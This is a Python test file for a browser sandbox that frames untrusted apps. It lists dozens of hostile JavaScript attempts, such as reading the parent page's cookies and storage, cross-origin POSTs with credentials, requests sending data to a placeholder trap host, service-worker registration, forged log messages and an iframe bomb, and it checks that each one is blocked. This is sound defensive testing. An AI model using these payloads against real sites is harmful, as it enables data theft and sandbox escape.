"""What hostile apps try in a visitor's browser. Each tells the arena's page how it went; the traps tell the truth.

Nothing here leaves the machine, should a wall be missing: all that is aimed at are listeners of the stage.
"""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from homespun.sandbox.browser.jailed import chromium

pytestmark = pytest.mark.slow
ATTEMPT = """<!doctype html><body><script>
const tell = (result) => parent.postMessage({attempt: String(result)}, "*");
const failed = (error) => tell("refused " + (error && error.name));
const soon = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const load = (tag, attributes, above = document.body) => new Promise((done, fail) => {
  const it = document.createElement(tag);
  it.onload = () => done("loaded"); it.onerror = () => fail({name: "error"});
  Object.assign(it, attributes); above.append(it);
});
(async () => { BODY })().then(tell, failed);
</script>"""
REFUSED = ("refused",)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # Few processes for many origins: what origins may do to each other does not hang on it. Playwright turns features
    # off that visitors have, storage of a frame's own among them: not here.
    flags = ["--renderer-process-limit=2", "--disable-site-isolation-trials", "--disable-features=Translate"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium(), headless=True, chromium_sandbox=False, args=flags
        )
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def told(page: Page, count: int = 1) -> dict[str, str]:
    """What apps said of their attempts, by origin."""
    page.wait_for_function(
        "(count) => new Set(heard.filter((m) => m.data.attempt).map((m) => m.origin)).size >= count", arg=count
    )
    heard = page.evaluate("() => heard")
    return {message["origin"]: message["data"]["attempt"] for message in heard if "attempt" in message["data"]}


ATTEMPTS = {
    # out of the frame
    "leads the page above elsewhere": ("top.location = 'http://TRAP/'; await soon(300); return 'no error'", REFUSED),
    "leads its parent elsewhere": ("parent.location.replace('http://TRAP/'); return 'no error'", REFUSED),
    "opens a window": ("return window.open('http://TRAP/')", ("null",)),
    "opens a window by a link": (
        "const a = document.createElement('a'); a.href = 'http://TRAP/'; a.target = '_blank'; document.body.append(a);"
        "a.click(); await soon(300); return 'tried'",
        ("tried",),
    ),
    "submits a form to the page above": (
        "const f = document.createElement('form'); f.action = 'http://TRAP/'; f.target = '_top';"
        "document.body.append(f); f.submit(); await soon(300); return 'tried'",
        ("tried",),
    ),
    "submits a form elsewhere": (
        "const f = document.createElement('form'); f.action = 'http://TRAP/'; f.method = 'post';"
        "document.body.append(f); setTimeout(() => f.submit(), 50); return 'tried'",
        ("tried",),
    ),
    # into the arena
    "reads the page above": ("return parent.document.cookie", ("refused SecurityError",)),
    "changes the page above": ("parent.document.body.innerHTML = ''", ("refused SecurityError",)),
    "reads the storage of the page above": ("return parent.localStorage.secret", ("refused SecurityError",)),
    "calls functions of the page above": ("parent.eval('1')", ("refused SecurityError",)),
    "reads where the page above is": ("return top.location.href", ("refused SecurityError",)),
    "takes on the arena's domain": ("document.domain = 'localhost'; return parent.document.title", REFUSED),
    "asks the arena's interface with its cookies": (
        "return (await fetch('ARENA/api/vote', {method: 'POST', credentials: 'include'})).status",
        ("refused TypeError",),
    ),
    "asks the arena's interface unseen": (
        "await fetch('ARENA/api/vote', {method: 'POST', mode: 'no-cors', credentials: 'include'}); return 'sent'",
        ("refused TypeError",),
    ),
    "sends the arena a beacon": ("navigator.sendBeacon('ARENA/api/vote', 'x'); await soon(300); return 'x'", ("x",)),
    "frames the arena": (
        "await load('iframe', {src: 'ARENA/api/me'}); return frames[0].document === null ? 'opaque' : 'read'",
        ("refused", "opaque"),
    ),
    # out to others
    "fetches from a listener": ("return (await fetch('http://TRAP/')).status", ("refused TypeError",)),
    "fetches by the listener's other name": (
        "return (await fetch('http://TRAP/'.replace('127.0.0.1', 'localhost'))).status",
        ("refused TypeError",),
    ),
    "loads a script": ("return load('script', {src: 'http://TRAP/x.js'})", ("refused error",)),
    "loads a picture": ("return load('img', {src: 'http://TRAP/x.png?secret'})", ("refused error",)),
    "loads a style sheet": ("return load('link', {rel: 'stylesheet', href: 'http://TRAP/x.css'})", ("refused error",)),
    "loads an object": ("load('object', {data: 'http://TRAP/'}).catch(() => 0); await soon(300); return 'x'", ("x",)),
    "prefetches": (
        "load('link', {rel: 'prefetch', href: 'http://TRAP/'}); await soon(300); return 'x'",
        ("x", REFUSED[0]),
    ),
    "loads a module": ("return (await import('http://TRAP/x.js')) && 'loaded'", ("refused TypeError",)),
    "opens a WebSocket": (
        "return new Promise((done, fail) => { const s = new WebSocket('ws://TRAP/');"
        "s.onopen = () => done('open'); s.onerror = () => fail({name: 'error'}); })",
        ("refused error", "refused SecurityError"),
    ),
    "opens an event stream": (
        "return new Promise((done, fail) => { const s = new EventSource('http://TRAP/');"
        "s.onopen = () => done('open'); s.onerror = () => fail({name: 'error'}); })",
        ("refused error",),
    ),
    "fetches from a worker": (
        "const code = `fetch('http://TRAP/').then(() => postMessage('reached'), () => postMessage('refused'))`;"
        "const worker = new Worker(URL.createObjectURL(new Blob([code])));"
        "return new Promise((done) => worker.onmessage = (e) => done(e.data))",
        ("refused",),
    ),
    "fetches from a frame without an origin": (
        "const f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch(\"http://TRAP/\")"
        '.then(() => parent.postMessage("reached", "*"), () => parent.postMessage("refused", "*"))</scr\' + \'ipt>\';'
        "document.body.append(f); return new Promise((done) => onmessage = (e) => done(e.data))",
        ("refused",),
    ),
    "takes down its own policy": (
        "const f = document.createElement('iframe'); f.srcdoc = '<p>x'; await new Promise((done) => { f.onload = done;"
        "document.body.append(f); }); return (await f.contentWindow.fetch('http://TRAP/')).status",
        ("refused TypeError",),
    ),
    "leads its own frame elsewhere": ("setTimeout(() => location = 'http://TRAP/stolen', 50); return 'x'", ("x",)),
    "leads its own frame to a page of data": (
        "const page = 'data:text/html,<script>parent.postMessage({attempt2: 1}, \"*\")</scr' + 'ipt>';"
        "setTimeout(() => location = page, 50); return 'x'",
        ("x",),
    ),
    "leads its own frame by a meta refresh": (
        "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=http://TRAP/\">'; return 'x'",
        ("x",),
    ),
    "calls others by WebRTC": (
        "return new RTCPeerConnection({iceServers: []}).signalingState",
        ("refused ReferenceError",),
    ),
    # beyond the page
    "registers a service worker": (
        "await navigator.serviceWorker.register('/index.html'); return 'registered'",
        REFUSED,
    ),
    "registers our own script as one": (
        "await navigator.serviceWorker.register('/.homespun/log.js', {scope: '/.homespun/'}); return 'registered'",
        REFUSED,
    ),
    "sets a cookie for everybody": (
        "document.cookie = 'tossed=1; domain=localhost; path=/'; return document.cookie.includes('tossed')",
        ("false",),
    ),
    "asks where the visitor is": (
        "return new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done,"
        "(e) => fail({name: e.code})))",
        ("refused 1",),
    ),
    "opens the camera": ("await navigator.mediaDevices.getUserMedia({video: true}); return 'open'", REFUSED),
    "reads the clipboard": ("return 'read ' + await navigator.clipboard.readText()", REFUSED),
    "looks for USB devices": ("return (await navigator.usb.getDevices()).length", REFUSED),
    "fills the screen": ("await document.body.requestFullscreen(); return 'full'", REFUSED),
    "puts a policy off by a base": (
        "document.head.innerHTML = '<base href=\"http://TRAP/\">'; return document.baseURI.startsWith(location.origin)",
        ("true",),
    ),
}


@pytest.fixture(scope="module")
def attempts(stage: Any, browser: Browser) -> Iterator[dict[str, tuple[str, list[str]]]]:
    """All attempts, side by side in one page: what each said, and what it reached."""
    runs: list[tuple[str, str]] = []
    for number, (body, _) in enumerate(ATTEMPTS.values()):
        text = ATTEMPT.replace("BODY", body.replace("TRAP", f"127.0.0.1:{stage.trap}/case{number}"))
        runs.append(
            (f"case{number}", stage.site(f"case{number}", text.replace("ARENA/api", f"{stage.arena}/api/case{number}")))
        )
    context = browser.new_context()
    page = context.new_page()
    page.goto(stage.frames(runs), wait_until="commit")
    said = told(page, len(runs))
    page.wait_for_timeout(400)
    reached = [*stage.trapped, *(f"{method} {path}" for method, path, _ in stage.api_calls if method != "GET")]
    stage.trapped.clear()
    assert page.url.rstrip("/") == stage.arena
    assert page.title() == "arena"
    assert len(context.pages) == 1
    assert not page.evaluate("() => heard.some((message) => message.data.attempt2)")
    yield {
        name: (said[origin], [line for line in reached if f"/{run}/" in line])
        for name, (run, origin) in zip(ATTEMPTS, runs, strict=True)
    }
    context.close()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_app_that(attempts: dict[str, tuple[str, list[str]]], name: str) -> None:
    said, reached = attempts[name]
    assert said.startswith(ATTEMPTS[name][1])
    assert reached == []


def test_the_traps_would_have_told(stage: Any, page: Page) -> None:
    page.goto(f"http://127.0.0.1:{stage.trap}/case0/x")
    assert any("/case0/x" in line for line in stage.trapped)
    stage.trapped.clear()
    page.goto(stage.frames([]))
    page.evaluate("() => fetch('/api/case0/vote', {method: 'POST'})")
    assert [(method, cookie) for method, _, cookie in stage.api_calls if method == "POST"] == [("POST", "arena=secret")]


def test_two_runs_share_nothing(stage: Any, page: Page) -> None:
    first = stage.site(
        "first",
        "<!doctype html><script>localStorage.x = document.cookie = 'mine=1; SameSite=None; Secure; Partitioned';"
        "parent.postMessage({attempt: localStorage.x + document.cookie.includes('mine')}, '*')</script>",
    )
    page.goto(stage.frames([("first", first)]))
    assert "true" in told(page)[first]
    body = """
      const neighbour = parent.frames[0] === self ? parent.frames[1] : parent.frames[0];
      let read = 'nothing'; try { read = neighbour.localStorage.x; } catch (error) { read = error.name; }
      const f = await fetch('FIRST/').then(() => 'fetched', (error) => error.name);
      const i = await load('img', {src: 'FIRST/'}).catch(() => 'refused');
      return [localStorage.x, document.cookie.includes('mine'), read, f, i].join(' ');
    """.replace("FIRST", first)
    second = stage.site("second", ATTEMPT.replace("BODY", body))
    page.goto(stage.frames([("first", first), ("second", second)]))
    assert told(page, 2)[second] == " false SecurityError TypeError refused"


def test_a_log_in_the_name_of_another_run_is_not_believed(stage: Any, page: Page) -> None:
    record = "[{type: 'click', time: '', payload: {x: 6, y: 6}}]"
    message = f"{{homespun: 'log', run: 'honest', records: {record}}}"
    forger = f"<!doctype html><script>parent.postMessage({message}, '*')</script>"
    page.goto(stage.frames([("honest", stage.site("honest", "<p>x")), ("forger", stage.site("forger", forger))]))
    page.wait_for_function("() => kept.filter((message) => message.homespun === 'log').length >= 2")
    assert page.evaluate("() => heard.length") > page.evaluate("() => kept.length")
    assert "click" not in str(page.evaluate("() => kept"))


def test_an_app_is_no_page_of_its_own(stage: Any, page: Page) -> None:
    origin = stage.site("alone", "<!doctype html><title>alone</title>")
    answer = page.goto(origin)
    assert answer is not None
    assert answer.status == 403
    assert page.title() != "alone"


def test_nobody_else_may_frame_an_app(stage: Any, page: Page) -> None:
    origin = stage.site("framed", "<!doctype html><title>framed</title><p>inside")
    page.goto(f"http://127.0.0.1:{stage.trap}/")
    page.set_content(f"<iframe src='{origin}'></iframe>")
    page.wait_for_timeout(300)
    assert all("inside" not in frame.content() for frame in page.frames[1:])


def test_a_frame_made_without_its_sandbox_is_held_all_the_same(stage: Any, page: Page) -> None:
    origin = stage.site("loose", ATTEMPT.replace("BODY", "return String(window.open('/')) + (top.location = '/x')"))
    page.goto(stage.frames([]))
    page.evaluate(
        "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }", origin
    )
    assert told(page)[origin].startswith("refused")
    assert page.url.rstrip("/") == stage.arena


def test_frames_within_frames_come_to_an_end(stage: Any, page: Page) -> None:
    bomb = """<!doctype html><script>
      const depth = Number(new URLSearchParams(location.search).get('n') ?? 0);
      if (depth < 12) for (let i = 0; i < 1 + (depth < 4); i++) {
        const f = document.createElement('iframe'); f.src = '/?n=' + (depth + 1) + '&i=' + i;
        document.documentElement.append(f); }
      parent.postMessage({attempt: 'up'}, '*');
    </script>"""
    origin = stage.site("bomb", bomb)
    page.goto(stage.frames([("bomb", origin), ("calm", stage.site("calm", "<p>calm"))]))
    assert told(page)[origin] == "up"
    assert page.frame_locator("iframe[data-run=calm]").locator("p").inner_text() == "calm"


ODD_PAGES = (
    "<!-- <head> --><!doctype html><html><head><script>window.first = document.scripts[0].src</script></head>",
    "<!doctype html><title><script></title><textarea><p>never closed",
    "<script>/*</script><!doctype html><body onload=1><script>*/</script>",
    "<plaintext><p>all text from here",
    "<frameset><frame></frameset>",
    "<base href='//localhost/'><p>a base",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\"><p>its own policy",
)


def test_the_logger_runs_whatever_the_page_is_made_of(stage: Any, page: Page) -> None:
    page.goto(stage.frames([(f"odd{n}", stage.site(f"odd{n}", text)) for n, text in enumerate(ODD_PAGES)]))
    page.wait_for_function(
        "(count) => new Set(kept.filter((message) => message.records?.some((record) => record.type === 'load'))"
        ".map((message) => message.run)).size === count",
        arg=len(ODD_PAGES),
    )


def test_what_a_visitor_does_is_told(stage: Any, page: Page) -> None:
    app = (
        "<!doctype html><body style='margin:0;height:3000px'><input id=a><input id=b type=password>"
        "<button style='position:absolute;left:40px;top:60px;width:20px;height:20px;border:0'"
        " onclick=\"b.type = 'text'; nothing()\">x</button>"
    )
    page.goto(stage.frames([("log", stage.site("log", app))]))
    frame = page.frame_locator("iframe")
    frame.locator("#a").press("q")
    frame.locator("#b").press("s")
    frame.locator("button").click(position={"x": 10, "y": 10})
    frame.locator("#b").press("t")
    frame.locator("#b").press("Escape")
    page.mouse.wheel(0, 120)
    page.evaluate("() => { document.querySelector('iframe').width = 500; }")
    page.wait_for_function("() => kept.flatMap((message) => message.records ?? []).some(({type}) => type === 'resize')")
    kept = page.evaluate("() => kept")
    records = [record for message in kept for record in message.get("records", [])]
    by_type: dict[str, list[Any]] = {}
    for record in records:
        assert set(record) == {"type", "time", "payload"}
        assert record["time"].endswith("Z")
        by_type.setdefault(record["type"], []).append(record["payload"])
    assert set(by_type) == {"load", "keydown", "click", "captureError", "scroll", "resize"}
    assert [payload["key"] for payload in by_type["keydown"]] == ["q", "character", "character", "Escape"]
    assert by_type["click"] == [{"x": 50, "y": 70}]
    assert by_type["resize"][-1]["width"] == 500
    assert by_type["scroll"][-1]["scrollTop"] > 0
    assert "nothing" in by_type["captureError"][0]["message"]
    assert {"homespun": "escape", "run": "log"} in kept


def test_where_storage_is_denied_a_program_gets_one_for_the_while(stage: Any, browser: Browser) -> None:
    body = (
        "let real = true; try { Storage.prototype.getItem.call(localStorage, 'x'); } catch { real = false; }"
        "localStorage.score = 3; localStorage.setItem('name', 'me'); delete sessionStorage.none;"
        "return JSON.stringify([real, localStorage.score, localStorage.getItem('name'), localStorage.length,"
        "localStorage.key(1), localStorage.getItem('other'), localStorage.other ?? null, 'score' in localStorage])"
    )
    origin = stage.site("keeper", ATTEMPT.replace("BODY", body))
    strict = browser.browser_type.launch(executable_path=chromium(), headless=True, chromium_sandbox=False)
    page = strict.new_page()
    page.goto(stage.frames([("keeper", origin)]))
    said = json.loads(told(page)[origin])
    strict.close()
    assert said == [False, "3", "me", 2, "name", None, None, True]
